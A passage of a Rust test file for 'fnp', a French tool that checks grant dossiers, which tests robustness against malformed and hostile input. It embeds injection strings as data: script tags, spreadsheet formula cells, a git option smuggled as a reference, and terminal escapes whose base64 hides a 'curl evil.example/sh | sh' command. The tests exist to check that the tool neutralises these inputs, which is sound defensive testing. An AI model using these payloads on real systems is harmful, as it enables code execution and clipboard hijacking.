//! Bad input: whatever associations send, `fnp` answers in French, in bounded time and
//! memory, loses nothing and never crashes. Each case states its expected outcome.

use crate::commun;

use std::path::Path;
use std::time::Duration;

use assert_cmd::Command;
use serde_json::Value;

fn fnp() -> Command {
    let mut c = Command::cargo_bin("fnp").expect("binary");
    c.env("NO_COLOR", "1").timeout(Duration::from_secs(120));
    c
}

fn json_de(args: &[&str]) -> (Value, i32) {
    let o = fnp().args(["check", "--format", "json"]).args(args).output().expect("runs");
    let v: Value =
        serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&o.stdout)));
    (v, o.status.code().unwrap_or(-1))
}

fn premier_message(v: &Value) -> String {
    v["dossiers"][0]["constats"][0]["message"].as_str().unwrap_or("").to_string()
}

#[test]
fn empty_and_garbage_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    std::fs::write(d.join("vide.toml"), "").expect("w");
    std::fs::write(d.join("vide.xlsx"), "").expect("w");
    std::fs::write(d.join("vide.ods"), "").expect("w");
    let dechets: Vec<u8> = (0..4096u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    for nom in ["dechets.toml", "dechets.xlsx", "dechets.ods", "dechets.xls"] {
        std::fs::write(d.join(nom), &dechets).expect("w");
    }
    let (v, code) = json_de(&[d.to_str().expect("utf-8")]);
    assert_eq!(code, 2);
    for dossier in v["dossiers"].as_array().expect("array") {
        let source = dossier["source"].as_str().unwrap_or("");
        let regle = dossier["constats"][0]["regle"].as_str().unwrap_or("");
        let message = dossier["constats"][0]["message"].as_str().unwrap_or("");
        assert!(!message.is_empty(), "{source}: a message");
        if source.ends_with("vide.toml") {
            // An empty TOML file is a dossier with every required key missing.
            assert_eq!(dossier["verdict"], "non-conforme");
            assert_eq!(regle, "SAISIE-CHAMP-MANQUANT");
        } else {
            assert_eq!(dossier["verdict"], "illisible", "{source}");
            assert_eq!(regle, "LECTURE", "{source}");
        }
    }
}

#[test]
fn deeply_nested_toml_does_not_overflow_the_stack() {
    let dir = tempfile::tempdir().expect("tempdir");
    let profond = format!("format = 1\nx = {}1{}\n", "[".repeat(100_000), "]".repeat(100_000));
    let f = dir.path().join("profond.toml");
    std::fs::write(&f, profond).expect("w");
    let (v, code) = json_de(&[f.to_str().expect("utf-8")]);
    assert_eq!(code, 2);
    assert_eq!(v["dossiers"][0]["verdict"], "illisible");
    let tables = format!("format = 1\nx = {}1{}\n", "{ a = ".repeat(50_000), " }".repeat(50_000));
    std::fs::write(&f, tables).expect("w");
    let (v, code) = json_de(&[f.to_str().expect("utf-8")]);
    assert_eq!(code, 2);
    assert_eq!(v["dossiers"][0]["verdict"], "illisible");
}

#[test]
fn a_huge_string_is_refused_by_size_or_read_whole() {
    let dir = tempfile::tempdir().expect("tempdir");
    let base = std::fs::read_to_string("tests/fixtures/cafe.toml").expect("read");
    let grand = base
        .replace("intitule = \"Café des parents du mercredi\"", &format!("intitule = \"{}\"", "é".repeat(15_000_000)));
    let f = dir.path().join("grand.toml");
    std::fs::write(&f, grand).expect("w");
    let (v, code) = json_de(&[f.to_str().expect("utf-8")]);
    assert_eq!(code, 2);
    assert!(premier_message(&v).contains("--max-size"), "{}", premier_message(&v));
    let (v, code) = json_de(&["--max-size", "64", f.to_str().expect("utf-8")]);
    assert_eq!(code, 0);
    assert_eq!(v["dossiers"][0]["verdict"], "a-verifier");
    // Whatever --max-size allows, a TOML past the memory budget of one dossier is one
    // unreadable dossier with a French reason, and the batch goes on.
    let geant = dir.path().join("geant.toml");
    let mut texte = base.clone();
    texte.push_str(&format!("# {}\n", "x".repeat(70 * 1024 * 1024)));
    std::fs::write(&geant, texte).expect("w");
    let (v, code) = json_de(&["--max-size", "250", dir.path().to_str().expect("utf-8")]);
    assert_eq!(code, 2, "{}", v["synthese"]);
    assert_eq!(v["synthese"]["dossiers"], 2);
    assert!(v.to_string().contains("demanderait trop de mémoire"), "{}", v["synthese"]);
}

#[test]
fn a_workbook_with_5000_sheets() {
    use rust_xlsxwriter::Workbook;
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wb = Workbook::new();
    let f = wb.add_worksheet().set_name("Dossier").expect("name");
    f.write_string(0, 0, "Champ").expect("w");
    f.write_string(1, 0, "exercice").expect("w");
    f.write_number(1, 1, 2025.0).expect("w");
    for i in 0..5000 {
        wb.add_worksheet().set_name(format!("F{i}")).expect("name");
    }
    let chemin = dir.path().join("feuilles.xlsx");
    wb.save(&chemin).expect("save");
    let (v, code) = json_de(&[chemin.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "read, and the missing keys reported");
    assert_eq!(v["dossiers"][0]["exercice"], 2025);
}

#[test]
fn injections_are_neutral_in_every_output() {
    let dir = tempfile::tempdir().expect("tempdir");
    let base = std::fs::read_to_string("tests/fixtures/cafe.toml").expect("read");
    let piege = base
        .replace("Association Les Petits Pas", "<script>alert('x')</script> & 'Cie' ]]> =HYPERLINK('http://x')")
        .replace("Quote-part du loyer de l'association", "=1+2 <b>gras</b> **md** | ;");
    let f = dir.path().join("piege.toml");
    std::fs::write(&f, piege).expect("w");
    let p = f.to_str().expect("utf-8");
    let texte = |args: &[&str]| String::from_utf8_lossy(&fnp().args(args).output().expect("runs").stdout).into_owned();
    let junit = texte(&["check", "--format", "junit", p]);
    assert!(!junit.contains("<script>") && !junit.contains("]]><"), "{junit}");
    let sarif = texte(&["check", "--format", "sarif", p]);
    serde_json::from_str::<Value>(&sarif).expect("SARIF stays valid JSON");
    let github = texte(&["check", "--format", "github", p]);
    assert!(github.lines().all(|l| l.starts_with("::")), "one command per line: {github}");
    let html = texte(&["dossier", "-o", "-", p]);
    assert!(!html.contains("<script>alert") && !html.contains("<b>gras"), "HTML escaped");
    let rapport = dir.path().join("rapport");
    fnp().args(["check", p, "--report"]).arg(&rapport).output().expect("runs");
    let synthese = std::fs::read_to_string(rapport.join("synthese.csv")).expect("csv");
    for cellule in synthese.lines().flat_map(|l| l.split(';')) {
        let c = cellule.trim_start_matches('"');
        assert!(!c.starts_with('=') && !c.starts_with('+') && !c.starts_with('@'), "formula cell: {cellule}");
    }
    let page = std::fs::read_to_string(rapport.join("rapport.html")).expect("html");
    assert!(!page.contains("<script>alert"), "report escaped");
    let budget = texte(&["budget", "--format", "csv", p]);
    assert!(budget.contains("'=1+2"), "{budget}");
}

#[test]
#[cfg_attr(windows, ignore = "symbolic links need a privilege on Windows, and wine makes none")]
fn links_in_a_batch_folder() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path().join("lot");
    std::fs::create_dir(&d).expect("mkdir");
    std::fs::copy("tests/fixtures/cafe.toml", d.join("a.toml")).expect("copy");
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("n-existe-pas.toml", d.join("b-casse.toml")).expect("symlink");
        std::os::unix::fs::symlink("a.toml", d.join("c-lien.toml")).expect("symlink");
        std::os::unix::fs::symlink(".", d.join("boucle")).expect("symlink");
    }
    let (v, code) = json_de(&[d.to_str().expect("utf-8")]);
    let verdicts: Vec<(String, String)> = v["dossiers"]
        .as_array()
        .expect("array")
        .iter()
        .map(|x| {
            (
                x["source"].as_str().unwrap_or("").rsplit('/').next().unwrap_or("").to_string(),
                x["verdict"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    assert!(verdicts.contains(&("a.toml".into(), "a-verifier".into())), "{verdicts:?}");
    assert!(verdicts.contains(&("b-casse.toml".into(), "illisible".into())), "{verdicts:?}");
    assert!(verdicts.contains(&("c-lien.toml".into(), "a-verifier".into())), "{verdicts:?}");
    assert_eq!(verdicts.len(), 3, "the loop is not followed: {verdicts:?}");
    assert_eq!(code, 2);
}

/// A file the user may not read, in a batch folder: that file is `illisible` (« lecture
/// refusée »), the rest is checked. Root reads everything, so as root `fnp` runs as `nobody`
/// (setpriv, from util-linux).
#[cfg(unix)]
#[test]
fn an_unreadable_file_in_a_batch_folder() {
    use std::os::unix::fs::PermissionsExt;
    let racine = std::process::Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).trim() == "0");
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path().join("lot");
    std::fs::create_dir(&d).expect("mkdir");
    std::fs::copy("tests/fixtures/cafe.toml", d.join("a.toml")).expect("copy");
    std::fs::copy("tests/fixtures/cafe.toml", d.join("b-interdit.toml")).expect("copy");
    for (chemin, mode) in [(dir.path(), 0o755), (d.as_path(), 0o755), (&d.join("a.toml"), 0o644)] {
        std::fs::set_permissions(chemin, std::fs::Permissions::from_mode(mode)).expect("chmod");
    }
    std::fs::set_permissions(d.join("b-interdit.toml"), std::fs::Permissions::from_mode(0o000)).expect("chmod");
    // A copy of the binary where `nobody` may run it, wherever the repository lies.
    let binaire = dir.path().join("fnp");
    std::fs::copy(assert_cmd::cargo::cargo_bin("fnp"), &binaire).expect("copy");
    std::fs::set_permissions(&binaire, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let mut commande = if racine {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"]).arg(&binaire);
        c
    } else {
        Command::new(&binaire)
    };
    let o = commande
        .env("NO_COLOR", "1")
        .timeout(Duration::from_secs(120))
        .args(["check", "--format", "json"])
        .arg(&d)
        .output()
        .expect("runs");
    let v: Value = serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
        panic!("{e}: {} {}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr))
    });
    let dossiers = v["dossiers"].as_array().expect("array");
    assert_eq!(dossiers.len(), 2, "{v:#}");
    let interdit =
        dossiers.iter().find(|x| x["source"].as_str().unwrap_or("").ends_with("b-interdit.toml")).expect("listed");
    assert_eq!(interdit["verdict"], "illisible");
    assert!(interdit["constats"][0]["message"].as_str().unwrap_or("").contains("lecture refusée"), "{interdit:#}");
    let lisible = dossiers.iter().find(|x| x["source"].as_str().unwrap_or("").ends_with("a.toml")).expect("listed");
    assert_eq!(lisible["verdict"], "a-verifier");
    assert_eq!(o.status.code(), Some(2));
}

fn empreinte(p: &Path) -> Vec<u8> {
    std::fs::read(p).expect("read")
}

/// Inputs are read, never written: every command leaves them byte for byte.
#[test]
fn inputs_are_never_modified() {
    let dir = tempfile::tempdir().expect("tempdir");
    let entrees = [
        "tests/fixtures/cafe.toml",
        "tests/fixtures/classeurs/cafe-libreoffice.xlsx",
        "tests/fixtures/classeurs/lieu-libreoffice.ods",
    ];
    let avant: Vec<Vec<u8>> = entrees.iter().map(|e| empreinte(Path::new(e))).collect();
    let sortie = dir.path();
    for e in entrees {
        fnp()
            .args(["check", e, "--report"])
            .arg(sortie.join("r"))
            .arg("--annotate")
            .arg(sortie.join("a"))
            .arg("--force")
            .output()
            .expect("runs");
        fnp().args(["budget", e, "--format", "csv"]).output().expect("runs");
        fnp().args(["dossier", e, "-o"]).arg(sortie.join("d.html")).arg("--force").output().expect("runs");
        fnp().args(["convert", e, "-o"]).arg(sortie.join("c.toml")).arg("--force").output().expect("runs");
    }
    let apres: Vec<Vec<u8>> = entrees.iter().map(|e| empreinte(Path::new(e))).collect();
    assert!(avant == apres, "an input changed");
    // No temporary file is left next to the outputs.
    assert_eq!(commun::temporaires(sortie), Vec::<std::path::PathBuf>::new(), "temporary file left");
}

#[test]
fn outputs_into_a_missing_or_blocked_place_fail_clearly() {
    let dir = tempfile::tempdir().expect("tempdir");
    // A file where the report folder should be.
    let bloque = dir.path().join("bloque");
    std::fs::write(&bloque, "un fichier").expect("w");
    let o =
        fnp().args(["check", "tests/fixtures/cafe.toml", "--report"]).arg(bloque.join("sous")).output().expect("runs");
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("bloque") && err.contains("impossible de créer le dossier"), "{err}");
    let o =
        fnp().args(["dossier", "tests/fixtures/cafe.toml", "-o"]).arg(bloque.join("d.html")).output().expect("runs");
    assert_eq!(o.status.code(), Some(2));
}

/// Ctrl-C during a batch: exit 130, no report, no temporary file.
#[cfg(unix)]
#[test]
fn ctrl_c_stops_a_batch_cleanly() {
    let dir = tempfile::tempdir().expect("tempdir");
    let lot = dir.path().join("lot");
    std::fs::create_dir(&lot).expect("mkdir");
    let texte = std::fs::read_to_string("examples/3.1-lieu-ressource.toml").expect("read");
    for i in 0..4000 {
        std::fs::write(lot.join(format!("d{i:04}.toml")), &texte).expect("w");
    }
    let rapport = dir.path().join("rapport");
    let mut enfant = std::process::Command::new(assert_cmd::cargo::cargo_bin("fnp"))
        .args(["check", "--quiet", "--jobs", "1"])
        .arg(&lot)
        .arg("--report")
        .arg(&rapport)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    std::thread::sleep(Duration::from_millis(300));
    let _ = std::process::Command::new("kill").args(["-INT", &enfant.id().to_string()]).status();
    let statut = enfant.wait().expect("wait");
    // Either it was interrupted (130), or the machine was fast enough to finish first.
    match statut.code() {
        Some(130) => assert!(!rapport.join("synthese.json").exists(), "no report after an interruption"),
        Some(0) => assert!(rapport.join("synthese.json").exists()),
        autre => panic!("unexpected exit {autre:?}"),
    }
    assert_eq!(commun::temporaires(dir.path()), Vec::<std::path::PathBuf>::new(), "temporary file left");
}

mod proprietes {
    use fnp::lecture;
    use fnp::model::Montant;
    use fnp::model::montant::{format_decimal_fr, parse_decimal_fr};
    use proptest::prelude::*;
    use rust_decimal::Decimal;

    proptest! {
        /// French and plain forms read back to the same amount.
        #[test]
        fn amounts_round_trip(centimes in 0i64..99_999_999_999) {
            let m = Montant::new(Decimal::new(centimes, 2)).expect("valid");
            prop_assert_eq!(Montant::parse_texte(&m.brut()).expect("plain"), m);
            prop_assert_eq!(Montant::parse_texte(&m.fr()).expect("French"), m);
            prop_assert_eq!(parse_decimal_fr(&format_decimal_fr(m.valeur(), 2)), Some(m.valeur()));
            prop_assert_eq!(Montant::parse_litteral_toml(&m.brut()).expect("literal"), m);
        }

        /// Whatever the lines, the budget figures keep their order and sums are exact.
        #[test]
        fn budget_invariants(
            depenses in prop::collection::vec((0usize..10, 0i64..5_000_000, any::<bool>(), prop::option::of(0usize..2)), 0..25),
            recettes in prop::collection::vec((0usize..21, 0i64..5_000_000, prop::option::of(0usize..2)), 0..10),
            volet in 0usize..9,
            finance_caf in any::<bool>(),
            melange in any::<u64>(),
        ) {
            use fnp::model::schema::*;
            let volets = ["1.1", "1.2", "2.1", "2.2", "3.1", "3.2", "4.1", "4.2", "5.1"];
            let (axe, vol) = volets[volet].split_once('.').expect("a.v");
            let mut texte = format!(
                "format = 1\nexercice = 2025\n[caf]\ndepartement = \"38\"\n[porteur]\nnom = \"x\"\nstatut = \"association\"\ndepartement = \"38\"\nfinance_caf = {finance_caf}\n[action]\nintitule = \"x\"\naxe = {axe}\nvolet = {vol}\ntype = \"x\"\ndebut = 2025-01-01\nfin = 2025-12-31\n"
            );
            let mut lignes: Vec<String> = depenses.iter().map(|(n, c, h, disp)| {
                let disp = disp.map(|k| format!("dispositif = \"{}\"\n", DISPOSITIFS[k])).unwrap_or_default();
                format!("[[depense]]\nnature = \"{}\"\nlibelle = \"l\"\nmontant = \"{}\"\nhausse_temps_travail = {h}\n{disp}", NATURES_DEPENSE[*n], Decimal::new(*c, 2))
            }).collect();
            lignes.extend(recettes.iter().map(|(f, c, disp)| {
                let disp = disp.map(|k| format!("dispositif = \"{}\"\n", DISPOSITIFS[k])).unwrap_or_default();
                format!("[[recette]]\nfinanceur = \"{}\"\nmontant = \"{}\"\n{disp}", FINANCEURS[*f], Decimal::new(*c, 2))
            }));
            let regles = fnp::rules::Regles::embarquees().expect("packs");
            let calcule = |texte: &str| {
                let lu = lecture::toml::lire_toml(texte, "p.toml").expect("reads");
                let r = fnp::check::verifier("p.toml", &lu, &regles);
                let mut essentiel: Vec<(String, String)> = r.constats.iter().map(|c| (c.regle.clone(), c.message.clone())).collect();
                essentiel.sort();
                (r.budget.expect("budget"), essentiel)
            };
            for l in &lignes {
                texte.push_str(l);
            }
            let (b, constats) = calcule(&texte);
            prop_assert!(b.total_eligible <= b.total_charges);
            prop_assert!(b.base_plafond <= b.total_charges);
            prop_assert!(b.plafond_caf <= b.base_plafond);
            prop_assert!(b.montant_max_fnp <= b.plafond_caf.max(Decimal::ZERO));
            prop_assert!(b.montant_max_fnp >= Decimal::ZERO);
            prop_assert!(b.montant_max_fnp <= b.total_eligible);
            let somme: Decimal = depenses.iter().map(|(_, c, _, _)| Decimal::new(*c, 2)).sum();
            prop_assert_eq!(b.total_charges, somme);
            // The same lines in another order: same figures, same findings.
            let mut melangees = lignes.clone();
            let n = melangees.len();
            if n > 1 {
                let mut g = melange;
                for i in (1..n).rev() {
                    g = g.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                    melangees.swap(i, (g >> 33) as usize % (i + 1));
                }
            }
            let debut = texte.find("[[").unwrap_or(texte.len());
            let mut autre = texte[..debut].to_string();
            for l in &melangees {
                autre.push_str(l);
            }
            let (b2, constats2) = calcule(&autre);
            prop_assert_eq!(b2.total_charges, b.total_charges);
            prop_assert_eq!(b2.montant_max_fnp, b.montant_max_fnp);
            prop_assert_eq!(b2.plafond_caf, b.plafond_caf);
            prop_assert_eq!(constats2, constats);
        }
    }
}

/// Found by fuzzing: a broken .xls made the xls reader library panic. It is an unreadable
/// file, for a batch and for every single-file command, with no crash and no backtrace.
#[test]
fn a_file_that_makes_a_reader_library_panic() {
    let f = "tests/fixtures/classeurs/casse-fuzz.xls";
    let (v, code) = json_de(&[f]);
    assert_eq!(code, 2);
    assert_eq!(v["dossiers"][0]["verdict"], "illisible");
    assert!(premier_message(&v).contains("abîmé"), "{}", premier_message(&v));
    for args in [vec!["budget", f], vec!["dossier", f, "-o", "-"], vec!["convert", f, "-o", "-"]] {
        let o = fnp().args(&args).output().expect("runs");
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("abîmé") && !err.contains("panicked"), "{args:?}: {err}");
    }
}

/// Found by fuzzing: a broken .xls whose sector chain loops made the reader grow memory
/// without bound. Its structure is walked first, with bounded work. The second file's loop
/// is in its first directory entry, which is not a root entry but which the reader takes as
/// the mini stream all the same (2 GB asked for).
#[test]
fn a_looping_xls_is_refused_before_reading() {
    for f in ["tests/fixtures/classeurs/boucle-fuzz.xls", "tests/fixtures/classeurs/racine-en-boucle-fuzz.xls"] {
        let (v, code) = json_de(&[f]);
        assert_eq!(code, 2, "{f}");
        assert!(premier_message(&v).contains("en boucle"), "{f}: {}", premier_message(&v));
    }
}

/// One value in the last cell of a sheet (`XFD1048576`) must not make a huge grid.
#[test]
fn a_far_away_cell_costs_nothing() {
    let (v, code) = json_de(&["tests/fixtures/classeurs/cellule-lointaine.xlsx"]);
    assert_eq!(code, 0, "{v:#}");
    assert_eq!(v["dossiers"][0]["verdict"], "conforme");
}

/// An ods workbook is read by fnp's own streaming reader, sheet by sheet, keeping only the
/// cells holding something in the layout's columns: a filled cell far away (`KN150203`)
/// costs nothing, as in an xlsx (calamine would lay the sheet out densely: gigabytes).
#[test]
fn a_far_away_ods_cell_costs_nothing() {
    let (v, code) = json_de(&["tests/fixtures/classeurs/cellule-lointaine.ods"]);
    assert_eq!(code, 1, "{v:#}");
    // The fixture is an older lieu workbook without the « accès spécifique » row: read as it is.
    let regles: Vec<&str> =
        v["dossiers"][0]["constats"].as_array().into_iter().flatten().filter_map(|c| c["regle"].as_str()).collect();
    // Rules v4: its counted staff line of a bearer funded by the Caf otherwise is recalled.
    assert_eq!(regles, ["A3V1-LOCAUX", "A3V1-HANDICAP", "GEN-FINANCE-CAF"], "{v:#}");
    let (v, code) = json_de(&["tests/fixtures/classeurs/lieu-libreoffice.ods"]);
    assert_eq!((code, &v["dossiers"][0]["verdict"]), (0, &Value::from("conforme")));
}

/// A formula with no cached value (a file written by a tool that does not compute).
#[test]
fn a_formula_without_cached_value_is_named_at_its_cell() {
    let (v, _) = json_de(&["tests/fixtures/classeurs/formule-sans-valeur.xlsx"]);
    let c = v["dossiers"][0]["constats"]
        .as_array()
        .expect("array")
        .iter()
        .find(|c| c["regle"] == "SAISIE-MONTANT")
        .cloned()
        .expect("finding");
    assert_eq!(c["emplacement"]["cellule"], "Dépenses!C2");
    assert!(c["message"].as_str().unwrap_or("").contains("formule sans valeur calculée"));
}

/// Found by fuzzing: an xls cell far outside the format's bounds made the reader library
/// ask for 134 GB. The cells' coordinates are scanned before reading.
#[test]
fn an_xls_cell_out_of_bounds_is_refused() {
    for f in [
        "tests/fixtures/classeurs/grille-fuzz.xls",
        "tests/fixtures/classeurs/dimensions-fuzz.xls",
        "tests/fixtures/classeurs/dimensions-inversees-fuzz.xls",
    ] {
        let (v, code) = json_de(&[f]);
        assert_eq!(code, 2, "{f}");
        assert_eq!(v["dossiers"][0]["verdict"], "illisible", "{f}");
    }
}

/// Hardening v2: nothing from a dossier or a file name can drive the terminal. ESC
/// sequences (an OSC 52 that writes the clipboard, a screen clear, a window title), CR, form
/// feed, C1 controls and bidi overrides are shown visibly, in every colour mode; the machine
/// formats stay well formed (JUnit without XML-illegal characters, SARIF URIs percent-encoded,
/// GitHub annotations escaped).
#[test]
fn terminal_sequences_in_values_and_names_are_shown_not_run() {
    let dir = tempfile::tempdir().expect("tempdir");
    let base = std::fs::read_to_string("tests/fixtures/cafe.toml").expect("read");
    let piege = base.replacen(
        "Quote-part du loyer de l'association",
        "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\\u0007\\u001b[2J\\u001b]0;titre\\u0007\\r\\f\\u009b31m\\u202efdp.exe\\ufffe",
        1,
    );
    assert_ne!(base, piege);
    // Windows forbids control characters in names: there the name holds only the others.
    let nom = if cfg!(windows) { "a[2J b #1%.toml" } else { "a\u{1b}[2J b #1%.toml" };
    let f = dir.path().join(nom);
    std::fs::write(&f, piege).expect("w");
    for couleur in [None, Some("1")] {
        let mut c = Command::cargo_bin("fnp").expect("binary");
        c.env_remove("NO_COLOR").timeout(Duration::from_secs(60));
        if let Some(v) = couleur {
            c.env("CLICOLOR_FORCE", v);
        } else {
            c.env("NO_COLOR", "1");
        }
        for args in [&["check"][..], &["budget"], &["budget", "--format", "md"]] {
            let o = c.args(args).arg(&f).output().expect("runs");
            let sortie = String::from_utf8_lossy(&o.stdout).into_owned();
            let erreurs = String::from_utf8_lossy(&o.stderr).into_owned();
            for t in [&sortie, &erreurs] {
                for interdit in ["\u{1b}]", "\u{1b}[2J", "\r", "\u{c}", "\u{9b}", "\u{202e}", "\u{7}"] {
                    assert!(!t.contains(interdit), "{args:?} {couleur:?}: {interdit:?} raw in\n{t}");
                }
                if couleur.is_none() {
                    assert!(!t.contains('\u{1b}'), "{args:?}: ESC without colour:\n{t}");
                }
            }
            // Shown visibly (Markdown escapes the backslash and brackets once more).
            assert!(sortie.contains("u{1b}") && sortie.contains("u{202e}"), "{args:?}: {sortie}");
            let mut c2 = Command::cargo_bin("fnp").expect("binary");
            c2.env("NO_COLOR", "1");
            c = c2;
        }
    }
    let p = f.to_str().expect("utf-8");
    let texte = |args: &[&str]| String::from_utf8_lossy(&fnp().args(args).output().expect("runs").stdout).into_owned();
    let junit = texte(&["check", "--format", "junit", p]);
    for interdit in ['\u{1b}', '\u{fffe}', '\u{c}', '\u{7}'] {
        assert!(!junit.contains(interdit), "JUnit holds {interdit:?}: {junit}");
    }
    assert!(junit.contains("\\u{fffe}"), "{junit}");
    let sarif = texte(&["check", "--format", "sarif", p]);
    let v: Value = serde_json::from_str(&sarif).expect("SARIF stays valid JSON");
    let uri = v["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        .as_str()
        .expect("uri")
        .to_string();
    let attendu = if cfg!(windows) { "a%5B2J%20b%20%231%25.toml" } else { "a%1B%5B2J%20b%20%231%25.toml" };
    assert!(uri.ends_with(attendu), "{uri}");
    let github = texte(&["check", "--format", "github", p]);
    assert!(!github.contains('\u{1b}') && !github.contains('\0') && github.contains("%1B"), "{github}");
    assert!(github.lines().all(|l| l.starts_with("::")), "one command per line: {github}");
}

/// A path the system cannot open (too long, too deep) is one unreadable dossier with its
/// reason, never a silent skip; the batch ends with exit 2.
#[test]
#[cfg_attr(
    windows,
    ignore = "python3 is not there under wine; on Windows long paths are read (windows::paths_past_260_characters_are_read_and_written)"
)]
fn a_path_too_deep_for_the_system_is_one_unreadable_dossier() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::copy("tests/fixtures/cafe.toml", dir.path().join("a.toml")).expect("copy");
    // Built by a child process that walks down (each mkdir relative to the last folder), so
    // that the test process never changes its own working directory.
    let script = format!(
        "import os\nos.chdir({:?})\nfor _ in range(30):\n    os.mkdir('d' * 200)\n    os.chdir('d' * 200)\nopen('b.toml', 'w').write('format = 1')\n",
        dir.path().display().to_string()
    );
    let fait = std::process::Command::new("python3").args(["-c", &script]).status().expect("python3");
    assert!(fait.success());
    let (v, code) = json_de(&[dir.path().to_str().expect("utf-8")]);
    assert_eq!(code, 2, "{v:#}");
    assert_eq!(v["synthese"]["dossiers"], 2, "{v:#}");
    assert_eq!(v["synthese"]["illisible"], 1, "{v:#}");
    let illisible = v["dossiers"].as_array().expect("array").iter().find(|d| d["verdict"] == "illisible").expect("one");
    let message = illisible["constats"][0]["message"].as_str().unwrap_or_default();
    assert!(message.contains("trop long"), "{message}");
}

/// `rules impact --base git:-…`: a reference starting with a dash is never a git option.
#[test]
fn a_git_reference_is_never_an_option() {
    let o = fnp()
        .args(["rules", "impact", "--base", "git:--output=/tmp/fnp-piege", "--head", "rules", "examples"])
        .output()
        .expect("runs");
    assert_eq!(o.status.code(), Some(2));
    assert!(!Path::new("/tmp/fnp-piege").exists());
}

/// Only regular files are read: a FIFO, a link to /dev/zero, a link out of the batch folder
/// are each one unreadable dossier saying what it is, in bounded time; `--follow-links`
/// follows the last one. The same holds in a CSV folder and in `--rules`.
#[cfg(unix)]
#[test]
fn special_files_and_links_out_of_the_folder_are_never_read() {
    let dir = tempfile::tempdir().expect("tempdir");
    let dehors = dir.path().join("secret.toml");
    std::fs::write(&dehors, "format = 1\nexercice = \"ne doit pas être cité\"\n").expect("write");
    let d = dir.path().join("lot");
    std::fs::create_dir(&d).expect("mkdir");
    std::fs::copy("tests/fixtures/cafe.toml", d.join("a.toml")).expect("copy");
    let fifo = std::process::Command::new("mkfifo").arg(d.join("tube.toml")).status().expect("mkfifo");
    assert!(fifo.success());
    std::os::unix::fs::symlink("/dev/zero", d.join("zero.toml")).expect("symlink");
    std::os::unix::fs::symlink(&dehors, d.join("dehors.toml")).expect("symlink");
    let (v, code) = json_de(&[d.to_str().expect("utf-8")]);
    assert_eq!(code, 2, "{v:#}");
    let message = |nom: &str| -> String {
        let x = v["dossiers"]
            .as_array()
            .expect("array")
            .iter()
            .find(|x| x["source"].as_str().is_some_and(|s| s.ends_with(nom)));
        x.map(|x| format!("{} {}", x["verdict"], x["constats"][0]["message"])).unwrap_or_default()
    };
    assert!(message("tube.toml").contains("illisible") && message("tube.toml").contains("tube nommé (FIFO)"), "{v:#}");
    assert!(message("zero.toml").contains("hors du répertoire"), "{v:#}");
    assert!(message("dehors.toml").contains("hors du répertoire"), "{v:#}");
    // The human output shows the offending line under a caret: never a line of a file out
    // of the folder, unless links are followed on request.
    let o = fnp().arg("check").arg(&d).output().expect("runs");
    let humain = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(!humain.contains("ne doit pas être cité"), "a file out of the folder was quoted: {humain}");
    let o = fnp().args(["check", "--follow-links"]).arg(&d).output().expect("runs");
    let suivi = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(suivi.contains("ne doit pas être cité"), "{suivi}");
    // Followed, /dev/zero is a device: refused before any byte is read.
    assert!(suivi.contains("c'est un périphérique"), "{suivi}");
    // A FIFO in a rule pack folder is refused, not waited on.
    let regles = dir.path().join("regles");
    std::fs::create_dir(&regles).expect("mkdir");
    for f in ["national.toml", "rhone.toml", "cerfa.toml"] {
        std::fs::copy(Path::new("rules").join(f), regles.join(f)).expect("copy");
    }
    let fifo = std::process::Command::new("mkfifo").arg(regles.join("piege.toml")).status().expect("mkfifo");
    assert!(fifo.success());
    let o = fnp().args(["rules", "lint"]).arg(&regles).output().expect("runs");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stdout).contains("tube nommé (FIFO)"));
}

/// Outputs: created with the user's umask, never over an input (even with --force), never
/// read back as dossiers by a second run, and stale temporary files of a killed run removed.
#[cfg(unix)]
#[test]
fn outputs_respect_the_umask_and_never_touch_the_inputs() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().expect("tempdir");
    let lot = dir.path().join("lot");
    std::fs::create_dir(&lot).expect("mkdir");
    std::fs::copy("tests/fixtures/cafe.toml", lot.join("a.toml")).expect("copy");
    std::fs::copy("tests/fixtures/classeurs/cafe-libreoffice.xlsx", lot.join("b.xlsx")).expect("copy");
    let rapport = lot.join("rapport");
    let annotes = lot.join("annotes");
    std::fs::create_dir(&rapport).expect("mkdir");
    std::fs::write(rapport.join(".fnp-reste.tmp"), "x").expect("stale temporary");
    let lancer = |force: bool| {
        let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_fnp"));
        c.env("NO_COLOR", "1").args(["check", "--format", "json"]).arg(&lot).arg("--report").arg(&rapport);
        c.arg("--annotate").arg(&annotes);
        if force {
            c.arg("--force");
        }
        // A shared drive's usual umask: the group reads and writes, others read.
        let o = sous_umask(0o002, c);
        serde_json::from_slice::<Value>(&o.stdout).expect("JSON")
    };
    let premier = lancer(false);
